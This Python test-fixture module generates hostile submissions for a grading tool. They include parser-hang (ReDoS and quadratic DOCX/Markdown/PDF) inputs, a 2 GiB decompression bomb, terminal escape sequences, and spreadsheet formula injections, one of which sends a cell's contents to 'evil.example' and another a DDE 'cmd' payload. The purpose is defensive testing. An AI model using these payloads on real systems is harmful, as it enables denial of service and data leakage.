"""Hostile candidate files for the host side of grading, built on demand.

Text replies (``assignments/support-replies``), case analyses (``assignments/pricing-review``)
and archives (any assignment: they fail in intake). Each builder writes into the given folder
and returns the path to pass to ``worksample grade``: a file or a folder. Built in code rather
than committed, so that each one is readable; the large ones are runs of zeros, deflated once
per 64 MiB block and repeated (a few MB on disk, well under a second to build).
"""

from __future__ import annotations

import functools
import io
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path

ZERO_BLOCK = 64 * 2**20  # zeros are deflated in blocks of this size, each block reused
GIB = 2**30
REPLY_LIMIT = 64 * 1024  # support-replies: max_reply_kb; a larger reply is not read

REPLY = """Hello Margaret,

Thank you for writing, and I am sorry the plan has not worked out for your studio.

Annual plans are refunded in full within 30 days of purchase. Yours is seven weeks old, so a
cash refund is not possible. Instead, I can turn the months you have not used into account
credit that you can use on any plan later. I have also turned off the renewal, so you will
not be charged again next year.

Would you like the credit? Just reply yes and I will add it today.

Kind regards,
Alex
"""

ANALYSIS = """# Pro plan price review

## Summary

Monthly revenue rose after the price rise, but churn rose too. The extra churn is in solo
accounts; teams accepted the new price.

## Recommendation

Keep the new price for teams and offer solo customers a lighter plan.
"""


# --- zeros, deflated cheaply --------------------------------------------------------------


@functools.cache
def _zero_block() -> bytes:
    """ZERO_BLOCK zero bytes as raw deflate blocks that start and end on a full flush, so the
    same bytes can be repeated anywhere in a deflate stream."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(bytes(ZERO_BLOCK)) + compressor.flush(zlib.Z_FULL_FLUSH)


def _gf2_apply(matrix: list[int], vector: int) -> int:
    result = 0
    for column in matrix:
        if vector & 1:
            result ^= column
        vector >>= 1
    return result


def crc32_of_zeros(count: int, crc: int = 0) -> int:
    """``zlib.crc32(bytes(count), crc)`` without the bytes: appending a zero byte is a linear
    map of the CRC register, raised to the power ``count`` by squaring."""
    power = [zlib.crc32(b"\0", 1 << bit) ^ zlib.crc32(b"\0") for bit in range(32)]
    register = crc ^ 0xFFFFFFFF
    while count:
        if count & 1:
            register = _gf2_apply(power, register)
        power = [_gf2_apply(power, column) for column in power]
        count >>= 1
    return register ^ 0xFFFFFFFF


def _deflate(parts: list[bytes | int]) -> tuple[list[bytes], int, int]:
    """Raw deflate chunks of ``parts`` (bytes, or an int: that many zero bytes), with the
    CRC-32 and the length of what they inflate to."""
    chunks, crc, size = [], 0, 0
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    for part in parts:
        if isinstance(part, int):
            blocks, rest = divmod(part, ZERO_BLOCK)
            chunks += [compressor.flush(zlib.Z_FULL_FLUSH)] + [_zero_block()] * blocks
            chunks.append(compressor.compress(bytes(rest)))
            crc, size = crc32_of_zeros(part, crc), size + part
        else:
            chunks.append(compressor.compress(part))
            crc, size = zlib.crc32(part, crc), size + len(part)
    chunks.append(compressor.flush())
    return chunks, crc, size


def _write_gzip(path: Path, parts: list[bytes | int]) -> Path:
    """A .gz file of ``parts`` (see ``_deflate``), CRC and length right."""
    chunks, crc, size = _deflate(parts)
    with open(path, "wb") as out:
        out.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")
        out.writelines(chunks)
        out.write(struct.pack("<2L", crc, size & 0xFFFFFFFF))
    return path


def _write_zip(path: Path, members: list[tuple[str, list[bytes | int]]]) -> Path:
    """A zip of deflated members (name, parts), sizes under 4 GiB (no zip64)."""
    central = []
    with open(path, "wb") as out:
        for name, parts in members:
            chunks, crc, size = _deflate(parts)
            packed, encoded, offset = sum(map(len, chunks)), name.encode(), out.tell()
            out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, packed,
                                  size, len(encoded), 0) + encoded)
            out.writelines(chunks)
            central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21,
                                       crc, packed, size, len(encoded), 0, 0, 0, 0, 0, offset)
                           + encoded)
        directory, start = b"".join(central), out.tell()
        out.write(directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(central),
                                          len(central), len(directory), start, 0))
    return path


# --- text replies (support-replies) -------------------------------------------------------


def _replies(folder: Path, name: str, files: dict[str, bytes]) -> Path:
    """A submission folder ``name`` holding one file per reply."""
    root = folder / name
    root.mkdir()
    for file_name, data in files.items():
        (root / file_name).write_bytes(data)
    return root


def _eml(headers: list[tuple[str, str]], body: str,
         sender: str = "Alex Moreno <alex@ledgerly.example>") -> bytes:
    thread = [("From", sender),
              ("To", "Margaret Okafor <margaret@okafor-design.example>"),
              ("Subject", "Re: Refund for annual plan"),
              ("In-Reply-To", "<late-refund-7731@okafor-design.example>")]
    lines = [f"{key}: {value}" for key, value in thread + headers]
    return ("\n".join(lines) + "\n\n" + body).encode("ascii")


def eml_utf7_lone_surrogate(folder: Path) -> Path:
    """Lone surrogate from a lenient decoder: a UTF-7 text/plain reply whose ``+2AA-`` decodes
    to U+D800, which cannot be encoded as UTF-8 (storing, printing, JSON)."""
    body = REPLY.replace("Kind regards", "+2AA- Kind regards")
    eml = _eml([("Content-Type", 'text/plain; charset="utf-7"')], body)
    return _replies(folder, "utf7-plain", {"late-refund.eml": eml})


def eml_utf7_lone_surrogate_html(folder: Path) -> Path:
    """Lone surrogate from a lenient decoder, second instance: the same ``+2AA-`` in a UTF-7
    text/html reply, so that it reaches the HTML reader."""
    html = "".join(f"<p>{block}</p>\n" for block in REPLY.replace("Kind", "+2AA- Kind")
                   .split("\n\n"))
    eml = _eml([("Content-Type", 'text/html; charset="utf-7"')], html)
    return _replies(folder, "utf7-html", {"late-refund.eml": eml})


def _html_reply(css_and_rest: str) -> bytes:
    return ("<p>" + REPLY.replace("\n\n", "</p>\n<p>") + "</p>\n" + css_and_rest).encode()


def html_style_unclosed_rule(folder: Path) -> Path:
    """Regex backtracking (quadratic) on CSS: a ``<style>`` block of 64 K characters with an
    open rule and no closing brace, the reply just under the 64 KB limit."""
    head = _html_reply("<style>p {")
    tail = b"</style>\n"
    css = b"x" * (REPLY_LIMIT - len(head) - len(tail))
    return _replies(folder, "style-no-brace", {"late-refund.html": head + css + tail})


def html_style_never_closed(folder: Path) -> Path:
    """Regex backtracking (quadratic) on CSS, second instance: ``<style>`` repeated to the 64 KB
    limit with no ``</style>``; each one makes a lazy match scan to the end."""
    head = _html_reply("")
    tags = b"<style>" * ((REPLY_LIMIT - len(head)) // len(b"<style>"))
    return _replies(folder, "style-never-closed", {"late-refund.html": head + tags})


NESTED_COMMENTS = "(" * 5000 + ")" * 5000


def eml_nested_comments(folder: Path) -> Path:
    """Unbounded recursion in a parser: 5,000 nested comments in two headers of an .eml reply:
    From (as reported; a reader that parses the sender recurses) and Content-Type (which the
    email package parses to find the body: the one that recurses today)."""
    eml = _eml([("Content-Type", f"text/plain; charset=utf-8 {NESTED_COMMENTS}")], REPLY,
               sender=f"Alex Moreno <alex@ledgerly.example> {NESTED_COMMENTS}")
    return _replies(folder, "nested-comments", {"late-refund.eml": eml})


def eml_nested_comments_disposition(folder: Path) -> Path:
    """Unbounded recursion in a parser, second instance: the nesting in Content-Disposition
    (read to tell a body from an attachment), a plain Content-Type."""
    eml = _eml([("Content-Type", "text/plain; charset=utf-8"),
                ("Content-Disposition", f"inline {NESTED_COMMENTS}")], REPLY)
    return _replies(folder, "nested-disposition", {"late-refund.eml": eml})


ESCAPES = "\x1b[2J\x1b[1A\x9b2K"  # clear screen, cursor up, C1 CSI: erase line
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the invoice")'


def reply_name_with_escapes(folder: Path) -> Path:
    """Candidate text obeyed by a terminal: a single reply file whose name carries ESC [2J,
    ESC [1A and a C1 CSI (U+009B); the name reaches messages printed and stored."""
    path = folder / f"late-refund{ESCAPES}.txt"
    path.write_text(REPLY, encoding="utf-8")
    return path


def reply_text_with_escapes_and_formulas(folder: Path) -> Path:
    """Candidate text obeyed by a terminal or a spreadsheet: replies whose text carries
    terminal escape sequences, and replies that start with a formula (``=HYPERLINK(...)``,
    ``+``, ``-``, ``@``), quoted as evidence into results, reports and exports."""
    escaped = REPLY.replace("Thank you", f"{ESCAPES}Thank you").replace(
        "Kind regards", "\x1b]8;;https://evil.example\x1b\\Kind regards\x1b]8;;\x1b\\")
    formulas = {  # each formula starts a sentence that grading quotes as evidence
        "double-charge.txt": f"{FORMULA} You were only charged once, Priya.",
        "missing-invoices.txt": "+1+cmd|' /C calc'!A0 Your invoices are safe, Dmitri.\n\n"
                                "@SUM(1+1) Deleted invoices stay in Trash for 30 days.\n\n"
                                "-2+3 A restore takes up to 1 business day."}
    files = {"late-refund.txt": escaped, **formulas}
    return _replies(folder, "escapes-and-formulas",
                    {name: text.encode() for name, text in files.items()})


# --- case analyses (pricing-review) -------------------------------------------------------


def _analysis(folder: Path, name: str, file_name: str, data: bytes) -> Path:
    """A submission folder ``name`` holding one document."""
    return _replies(folder, name, {file_name: data})


def markdown_open_brackets(folder: Path) -> Path:
    """Regex backtracking (quadratic) on Markdown links: an analysis followed by 200,000 ``[``
    that never close."""
    return _analysis(folder, "open-brackets", "analysis.md",
                     (ANALYSIS + "\n" + "[" * 200_000 + "\n").encode())


def markdown_link_openers(folder: Path) -> Path:
    """Regex backtracking (quadratic) on Markdown links, second instance: ``[](`` repeated
    200,000 times; each is a link whose target never closes."""
    return _analysis(folder, "link-openers", "analysis.md",
                     (ANALYSIS + "\n" + "[](" * 200_000 + "\n").encode())


def _docx_bytes(heading: str, picture: bool = False) -> bytes:
    """A Word document: a Heading 1, a paragraph, and optionally a tiny picture."""
    import docx

    document = docx.Document()
    document.add_heading(heading, level=1)
    document.add_paragraph(ANALYSIS.split("## Summary")[1].split("##")[0].strip())
    if picture:
        document.add_picture(io.BytesIO(_png()))
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def markdown_one_sentence_of_cues(folder: Path) -> Path:
    """Work per match or clause in proportion to its sentence (quadratic): an analysis whose
    last "sentence" repeats what the key points look for 2,000 times, with no full stop
    (120 KB; at 360 KB the checks split the sentence up to each match again, and hashed all
    its words for each of its clauses: over 20 s of CPU). Graded in linear time, it still
    costs about 1.4 s of CPU per 100 KB on a slow day of the test machine: 6,000 repeats came
    within a second of the tests' 5 s budget. The growth guard in
    test_linear_time_readers.py holds the time linear; this holds the whole path."""
    return _analysis(folder, "one-sentence-of-cues", "analysis.md", (
        ANALYSIS + "\nRevenue went up but churn increased and solo users left "
        + "and revenue went up but churn increased and solo users left " * 2_000 + "\n"
    ).encode())


def markdown_run_of_spaces(folder: Path) -> Path:
    """Regex backtracking (quadratic) on a run of spaces: a sentence of an analysis with
    200,000 spaces in it and no clause break (a red team's: 55 s at 60 KB, over the limit)."""
    return _analysis(folder, "run-of-spaces", "analysis.md", (
        ANALYSIS + "\nChurn rose" + " " * 200_000 + "by a lot.\n").encode())


def markdown_many_stated_moves(folder: Path) -> Path:
    """Work per pair of sentences (quadratic): an analysis stating 1,200 moves between two
    percentages, each compared with every clause ("Solo churn went from 2.00% to 4.10%"; a
    red team's 111 KB took more than the CPU limit; 2,000 moves took 23.8 s, so 1,200 would
    take about 8.6 s). Graded in linear time, 3,000 moves took 5.0-6.3 s of CPU in one process
    on a slow day of the test machine, over the tests' 5 s budget, and 2,000 took 4.0 s; the
    growth guard in test_linear_time_readers.py holds the time linear, this the whole path."""
    return _analysis(folder, "many-stated-moves", "analysis.md", (
        ANALYSIS + "\n" + "Solo churn went from 2.00% to 4.10%.\n" * 600 + "".join(
            f"Team churn went from {1 + i / 1000:.3f}% to {2 + i / 1000:.3f}%, up "
            f"{1 + i / 500:.3f}%.\n" for i in range(600))).encode())


def markdown_run_on_with_it(folder: Path) -> Path:
    """Work per clause in proportion to its sentence (quadratic): an analysis whose last
    "sentence" is 2,000 clauses that tell a measure through "it" ("Churn rose, it doubled,
    ..."), 48 KB with no full stop. Each "it" looked for a figure in the whole sentence again,
    for every key point: 8.2 s at 29 KB, 122 s at 115 KB, and 22 s here, past the tests' CPU
    limit (1.1 s once read in linear time). The growth guard in test_linear_time_readers.py
    holds the time linear; this holds the whole path."""
    return _analysis(folder, "run-on-with-it", "analysis.md", (
        ANALYSIS + "\n" + "Churn rose, it doubled, " * 2_000 + "and that is all.\n").encode())


def markdown_names_and_changes(folder: Path) -> Path:
    """Work per figure in proportion to its clause, and per name in proportion to the names
    before it (cubic, nearly): an analysis whose last "sentence" names churn 600 times in a
    row and then says "rose by 23%" 600 times (a red team's, 11 KB: 16.8 s in one process,
    past the tests' CPU limit; 0.11 s once read in linear time)."""
    return _analysis(folder, "names-and-changes", "analysis.md", (
        ANALYSIS + "\n" + "Churn " * 600 + "rose by 23% " * 600 + ".\n").encode())


def markdown_many_section_headings(folder: Path) -> Path:
    """Work per heading in proportion to the headings after it (quadratic): an analysis
    followed by 70,000 headings "# Risk" (490 KB; each heading naming a section copied every
    part after it: 9 s of CPU in one process, past the tests' CPU limit; 0.7 s once read in
    linear time)."""
    return _analysis(folder, "many-section-headings", "analysis.md",
                     (ANALYSIS + "\n" + "# Risk\n" * 70_000).encode())


def markdown_table_of_a_long_header(folder: Path) -> Path:
    """Text multiplied by the reader: an analysis with a table whose header is "churn" 1,200
    times, over 1,200 rows of a figure each (28 KB; each figure was stated with the whole
    header, 8.6 MB of statements: a fifth red team's, 69 s of CPU, past the tests' CPU
    limit)."""
    table = ("| Metric | " + "churn " * 1_200 + "|\n|---|---|\n"
             + "".join(f"| churn | {row}% |\n" for row in range(1_200)))
    return _analysis(folder, "table-of-a-long-header", "analysis.md",
                     (ANALYSIS + "\n" + table).encode())


def _docx_with_table(rows_xml: str) -> bytes:
    """A Word document: the analysis's heading and paragraph, then a table of ``rows_xml``."""
    import docx
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls

    document = docx.Document(io.BytesIO(_docx_bytes("Summary")))
    document.element.body.append(parse_xml(f"<w:tbl {nsdecls('w')}>{rows_xml}</w:tbl>"))
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def docx_cell_spanning_columns(folder: Path) -> Path:
    """Text multiplied by the reader: one table cell of 33 KB that spans 2,500 columns
    (python-docx's ``row.cells`` gives it once per column: 80 MB of text from a 30 KB file)."""
    cell = ('<w:tc><w:tcPr><w:gridSpan w:val="2500"/></w:tcPr><w:p><w:r><w:t>'
            + "churn rose " * 3_000 + "</w:t></w:r></w:p></w:tc>")
    return _analysis(folder, "cell-spanning-columns", "analysis.docx",
                     _docx_with_table(f"<w:tr>{cell}</w:tr>"))


def docx_merged_cells_chain(folder: Path) -> Path:
    """Text multiplied by the reader, second instance: a 4 KB cell merged down 1,500 rows
    (python-docx gives every row the cell above, found again row by row: quadratic)."""
    top = ('<w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr><w:p><w:r><w:t>'
           + "teams stay " * 400 + "</w:t></w:r></w:p></w:tc>")
    below = "<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>"
    return _analysis(folder, "merged-cells-chain", "analysis.docx",
                     _docx_with_table(f"<w:tr>{top}</w:tr>" + f"<w:tr>{below}</w:tr>" * 1_500))


def docx_a_style_for_each_paragraph(folder: Path) -> Path:
    """Work per paragraph in proportion to the styles (quadratic): a 60 KB Word document
    defining 2,000 character styles, then 2,000 paragraphs, each naming a paragraph style it
    does not define and holding a run in a character style of its own. python-docx looked
    each style up by searching them all, and the default style by reading every style's type:
    37 s of CPU in one process, past the tests' CPU limit (1.4 s once the styles are read
    once)."""
    import docx
    from docx.enum.style import WD_STYLE_TYPE

    document = docx.Document(io.BytesIO(_docx_bytes("Summary")))
    for number in range(2_000):
        style = document.styles.add_style(f"Run{number}", WD_STYLE_TYPE.CHARACTER)
        paragraph = document.add_paragraph()
        paragraph.add_run("Solo churn rose after the price rise.", style=style)
        paragraph._p.style = f"Undefined{number}"
    buffer = io.BytesIO()
    document.save(buffer)
    return _analysis(folder, "a-style-for-each-paragraph", "analysis.docx", buffer.getvalue())


def docx_fields_that_never_end(folder: Path) -> Path:
    """Work per run in proportion to the runs before it (quadratic): a 44 KB Word document
    with a paragraph of 20,000 fields that begin and never end, each followed by a run of
    text (each run looked for an open field's code among every field begun, and for its
    paragraph's properties among all the paragraph's children: a seventh red team's, 136 s
    of CPU, past the tests' CPU limit)."""
    import docx
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls

    document = docx.Document(io.BytesIO(_docx_bytes("Summary")))
    field = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar '
             'w:fldCharType="separate"/></w:r><w:r><w:t>x </w:t></w:r>')
    body = document.element.body
    body.insert(len(body) - 1, parse_xml(f"<w:p {nsdecls('w')}><w:pPr/>{field * 20_000}</w:p>"))
    buffer = io.BytesIO()
    document.save(buffer)
    return _analysis(folder, "fields-that-never-end", "analysis.docx", buffer.getvalue())


def docx_crowded_package(folder: Path) -> Path:
    """Work per relationship in proportion to the parts (quadratic), in python-docx's loading
    of the package: a 717 KB Word document of 4,000 empty parts and 100,000 relationships,
    most to the last part (an eighth red team's: python-docx looks for each part in a list of
    those seen, 8.1 s of CPU, past the tests' CPU limit; 3.6 MB of parts took 11 s)."""
    with zipfile.ZipFile(io.BytesIO(_docx_bytes("Summary"))) as package:
        members = [(info.filename, package.read(info)) for info in package.infolist()]
    links = "".join(f'<Relationship Id="p{k}" Type="t" Target="p/{k}.b"/>' for k in range(4_000))
    links += "".join(
        f'<Relationship Id="q{k}" Type="t" Target="p/3999.b"/>' for k in range(96_000))
    root = folder / "crowded-package"
    root.mkdir()
    with zipfile.ZipFile(root / "analysis.docx", "w", zipfile.ZIP_DEFLATED) as docx_file:
        for name, data in members:
            if name == "[Content_Types].xml":
                data = data.replace(b"<Default ", b'<Default Extension="b" '
                                    b'ContentType="application/octet-stream"/><Default ', 1)
            elif name == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", links.encode() + b"</Relationships>")
            docx_file.writestr(name, data)
        for k in range(4_000):
            docx_file.writestr(f"word/p/{k}.b", b"")
    return root


def _docx_with(block_xml: str, style_xml: str = "") -> bytes:
    """A Word document: the analysis's heading and paragraph, then ``block_xml`` (a paragraph
    or a table, in the w: namespace), with ``style_xml`` (one ``w:style`` or more) among its
    styles."""
    import docx
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls

    document = docx.Document(io.BytesIO(_docx_bytes("Summary")))
    for style in parse_xml(f"<w:styles {nsdecls('w')}>{style_xml}</w:styles>"):
        document.styles.element.append(style)
    document.element.body.append(parse_xml(block_xml.replace(">", f" {nsdecls('w')}>", 1)))
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def docx_run_of_many_kinds(folder: Path) -> Path:
    """Work per child of a run in proportion to its children (quadratic), inside lxml: one run
    of 15,000 tabs, breaks, carriage returns and texts (38 KB); python-docx reads a run's text
    with an XPath union of six kinds, whose merging compares the nodes found. The texts are a
    letter each, so that the judging of what they say costs little beside the reading."""
    return _analysis(folder, "run-of-many-kinds", "analysis.docx", _docx_with(
        "<w:p><w:r>" + "<w:tab/><w:br/><w:cr/><w:t>x</w:t>" * 15_000
        + "</w:r></w:p>"))


def docx_style_of_many_children(folder: Path) -> Path:
    """Work per paragraph in proportion to a style's children (quadratic): 40,000 empty
    paragraphs in the default paragraph style, which has 40,000 children before its name
    (25 KB); the name was looked for among them for each paragraph."""
    return _analysis(folder, "style-of-many-children", "analysis.docx", _docx_with(
        "<w:sdt><w:sdtContent>" + "<w:p/>" * 40_000
        + "</w:sdtContent></w:sdt>",
        "<w:style w:type='paragraph' w:default='1' w:styleId='Fat'>" + "<w:b/>" * 40_000
        + "<w:name w:val='Fat'/></w:style>"))


def docx_header_of_one_long_word(folder: Path) -> Path:
    """Text multiplied by the reader: a table whose header is one word of 24,000 letters over
    1,200 rows of a figure (37 KB); the header's first 20 words, all of it, were written into
    each row's statement (also so in Markdown)."""
    cell = "<w:tc><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc>".format
    rows = (f"<w:tr>{cell('Metric')}{cell('y' * 24_000)}</w:tr>"
            + f"<w:tr>{cell('churn')}{cell('1%')}</w:tr>" * 1_200)
    return _analysis(folder, "header-of-one-long-word", "analysis.docx",
                     _docx_with(f"<w:tbl>{rows}</w:tbl>"))


def docx_empty_runs(folder: Path) -> Path:
    """Elements no limit counted: 250,000 empty runs in one paragraph (37 KB), which hold no
    text for the text limit to count and cost their reading each."""
    return _analysis(folder, "empty-runs", "analysis.docx",
                     _docx_with("<w:p>" + "<w:r/>" * 250_000 + "</w:p>"))


def docx_style_named_at_length(folder: Path) -> Path:
    """Work per paragraph in proportion to its style's name (quadratic): 40,000 empty paragraphs
    in a default style named "Heading", 40,000 spaces and a letter (38 KB); the name was
    matched against "Heading" for each paragraph."""
    return _analysis(folder, "style-named-at-length", "analysis.docx", _docx_with(
        "<w:sdt><w:sdtContent>" + "<w:p/>" * 40_000 + "</w:sdtContent></w:sdt>",
        "<w:style w:type='paragraph' w:default='1' w:styleId='Long'><w:name w:val='Heading"
        + " " * 40_000 + "x'/></w:style>"))


def docx_table_styles_based_on_a_crowded_one(folder: Path) -> Path:
    """Work per table style in proportion to the style it is based on (quadratic): 2,000 tables,
    each in a style of its own based on one style of 2,000 parts (50 KB); each composed all
    the shared style's parts again."""
    tables = "".join(f"<w:tbl><w:tblPr><w:tblStyle w:val='s{k}'/></w:tblPr><w:tr><w:tc><w:p>"
                     "<w:r><w:t>x</w:t></w:r></w:p></w:tc></w:tr></w:tbl>" for k in range(2_000))
    styles = ("<w:style w:type='table' w:styleId='B'>" + "<w:tblStylePr w:type='wholeTable'/>"
              * 2_000 + "</w:style>" + "".join(f"<w:style w:type='table' w:styleId='s{k}'>"
                                               "<w:basedOn w:val='B'/></w:style>"
                                               for k in range(2_000)))
    return _analysis(folder, "table-styles-based-on-a-crowded-one", "analysis.docx",
                     _docx_with(f"<w:sdt><w:sdtContent>{tables}</w:sdtContent></w:sdt>", styles))


def docx_tables_on_a_line_of_styles(folder: Path) -> Path:
    """Memory per table in proportion to how far its style is based on others: 5,000 tables,
    each in a style based on the style of the one before (read 32 deep), showing every part
    (81 KB); a cache of what each chain's first styles set held 640 MB, and 1.2 GB for 10,000
    (a fourteenth red team's, on the thirteenth's fix)."""
    look = ("<w:tblLook w:firstRow='1' w:lastRow='1' w:firstColumn='1' w:lastColumn='1' "
            "w:noHBand='0' w:noVBand='0'/>")
    tables = "".join(f"<w:tbl><w:tblPr><w:tblStyle w:val='s{k}'/>{look}</w:tblPr><w:tr><w:tc>"
                     "<w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
                     for k in range(5_000))
    styles = "".join(f"<w:style w:type='table' w:styleId='s{k}'><w:basedOn w:val='s{k - 1}'/>"
                     "</w:style>" for k in range(5_000))
    return _analysis(folder, "tables-on-a-line-of-styles", "analysis.docx",
                     _docx_with(f"<w:sdt><w:sdtContent>{tables}</w:sdtContent></w:sdt>", styles))


def _rows_filled_out(tables: int) -> str:
    """``tables`` Markdown tables, each a header 255 cells wide over 255 rows of one cell,
    which markdown-it makes as wide as the header (1.5 KB for 65,025 cells)."""
    return ("|" + "a|" * 255 + "\n|" + "-|" * 255 + "\n" + "x\n" * 255 + "\n") * tables


def markdown_tables_filled_out(folder: Path) -> Path:
    """Cells the file never wrote: 16 tables of rows filled out to a header 255 cells wide
    (25 KB), about 1 KB of markdown-it's memory for each cell."""
    return _analysis(folder, "tables-filled-out", "analysis.md",
                     (ANALYSIS + "\n" + _rows_filled_out(16)).encode())


def docx_tables_filled_out(folder: Path) -> Path:
    """The same in Word: 16 tables whose first row has 256 empty cells and the 256 rows below
    one cell each (37 KB), written out as Markdown tables for the reading of figures."""
    cell = "<w:tc><w:p/></w:tc>"
    table = ("<w:tbl><w:tr>" + cell * 256 + "</w:tr>" + ("<w:tr>" + cell + "</w:tr>") * 256
             + "</w:tbl>")
    return _analysis(folder, "docx-tables-filled-out", "analysis.docx", _docx_with(
        "<w:sdt><w:sdtContent>" + table * 16 + "</w:sdtContent></w:sdt>"))


def _png() -> bytes:
    """A valid 1x1 grey PNG."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I",
                                                                       zlib.crc32(kind + data))

    header = struct.pack(">2I5B", 1, 1, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0"))
            + chunk(b"IEND", b""))


def docx_heading_of_spaces(folder: Path) -> Path:
    """Regex backtracking (quadratic) on a heading line: a Heading 1 that is one word, two
    million spaces and another word (a 2 MB document.xml, a few KB zipped)."""
    data = _docx_bytes("Summary" + " " * 2_000_000 + "Recommendation")
    return _analysis(folder, "heading-of-spaces", "analysis.docx", data)


def docx_huge_media_part(folder: Path) -> Path:
    """Decompression bomb in a package part: a ~2 MB DOCX whose picture (a part the document
    references, so python-docx loads it) inflates to 2 GiB of zeros."""
    with zipfile.ZipFile(io.BytesIO(_docx_bytes("Summary", picture=True))) as package:
        members = [(info.filename, [package.read(info)]) for info in package.infolist()]
    members = [(name, [2 * GIB] if name.startswith("word/media/") else parts)
               for name, parts in members]
    root = folder / "huge-media-part"
    root.mkdir()
    _write_zip(root / "analysis.docx", members)
    return root


def _pdf(lines: list[str], to_unicode: str) -> bytes:
    """A one-page PDF of ``lines`` in Helvetica, whose ToUnicode CMap holds ``to_unicode``."""
    text = "".join(f"({line}) Tj T* " for line in lines)
    content = f"BT /F1 11 Tf 72 720 Td 14 TL {text}ET".encode("latin-1")
    cmap = ("/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
            "/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
            "/CMapName /Adobe-Identity-UCS def /CMapType 2 def\n"
            "1 begincodespacerange <00> <FF> endcodespacerange\n"
            f"{to_unicode}\nendcmap CMapName currentdict /CMap defineresource pop end end\n"
            ).encode()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
               b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica "
               b"/Encoding /WinAnsiEncoding /ToUnicode 6 0 R >>",
               _pdf_stream(content), _pdf_stream(cmap)]
    return _pdf_file(objects)


def _pdf_stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), more) + data + b"\nendstream"


def _pdf_file(objects: list[bytes]) -> bytes:
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)
    return bytes(out)



def pdf_form_drawn_again(folder: Path) -> Path:
    """Work per draw in proportion to what is drawn, in pypdf (not fixed: left to the limits):
    a 1 KB PDF whose page draws one Form XObject 1,000 times; the form's few words and 20,000
    operators (compressed) are parsed again for each draw (200 draws took 16.8 s of CPU)."""
    form = zlib.compress(b"BT /F1 11 Tf 72 700 Td (churn rose) Tj ET " + b"q Q " * 20_000, 9)
    content = (b"BT /F1 11 Tf 72 720 Td (Summary: revenue rose and churn rose.) Tj ET\n"
               + b"/X Do " * 1_000)
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font "
               b"<< /F1 4 0 R >> /XObject << /X 6 0 R >> >> /Contents 5 0 R >>",
               b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
               _pdf_stream(zlib.compress(content, 9), b"/Filter /FlateDecode "),
               _pdf_stream(form, b"/Filter /FlateDecode /Type /XObject /Subtype /Form "
                                 b"/BBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> ")]
    return _analysis(folder, "pdf-form-drawn-again", "analysis.pdf", _pdf_file(objects))

PDF_LINES = ["Summary", "Monthly revenue rose after the price rise, but churn rose too.",
             "The extra churn is in solo accounts ~ teams accepted the new price.",
             "Recommendation", "Keep the new price for teams; offer solo customers a lighter plan."]


def pdf_tounicode_surrogate(folder: Path) -> Path:
    """Lone surrogate from a document's own text map: a PDF whose ToUnicode CMap maps the
    glyph ``~`` to <D800>, amid ordinary text."""
    data = _pdf(PDF_LINES, "1 beginbfchar <7E> <D800> endbfchar")
    return _analysis(folder, "pdf-surrogate", "analysis.pdf", data)


def pdf_tounicode_surrogate_range(folder: Path) -> Path:
    """Lone surrogate from a document's own text map, second instance: a ``bfrange`` that maps
    ``~`` to the low surrogate <DFFF>."""
    data = _pdf(PDF_LINES, "1 beginbfrange <7E> <7E> <DFFF> endbfrange")
    return _analysis(folder, "pdf-surrogate-range", "analysis.pdf", data)


def document_name_formula(folder: Path) -> Path:
    """Candidate text obeyed by a spreadsheet, in a case analysis: the only document is named
    ``=HYPERLINK(...)`` (an old .doc), so the rejection message, which starts with the file's
    name, starts a formula in the CSV export."""
    name = '=HYPERLINK("http:evil.example","Open the analysis").doc'
    return _analysis(folder, "formula-name", name, b"\xd0\xcf\x11\xe0 not really Word\n")


# --- archives (any assignment) ------------------------------------------------------------


